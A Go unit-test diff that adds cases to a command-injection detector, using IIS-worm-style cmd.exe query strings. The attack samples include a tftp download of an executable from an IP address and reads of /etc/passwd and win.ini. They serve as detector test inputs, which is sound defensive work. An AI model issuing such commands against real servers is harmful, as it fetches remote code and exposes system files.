@@ -177,3 +177,19 @@ var commandBenign = []placedCase{
 func TestCommandFamily(t *testing.T) {
 	checkPlaced(t, "cmdi", commandAttacks, 0.99, commandBenign, 0.99)
 }
+
+// A query for cmd.exe, or a copy of it, is its switches and then the
+// command line /c, /k or /r runs (the IIS worms' "cmd.exe?/c+dir" and
+// their droppers, from the Fwaf corpus). Switches with no command after
+// them, and prose that opens with "/c", are not.
+func TestCmdSwitchesThenCommand(t *testing.T) {
+	checkFamily(t, "cmdi", []familyCase{
+		{"q", "/x /c tftp -i 192.168.202.96 get twvcumel vjdqbbls.exe", 0.99},
+		{"q", "/c cat /etc/passwd", 0.99},
+		{"q", "/K type c:\\windows\\win.ini", 0.99},
+	}, []familyCase{
+		{"q", "/c is the path of drive c", 0},
+		{"q", "/a /b the end", 0},
+		{"q", "/c dir", 0.9},
+	}, 0.9)
+}
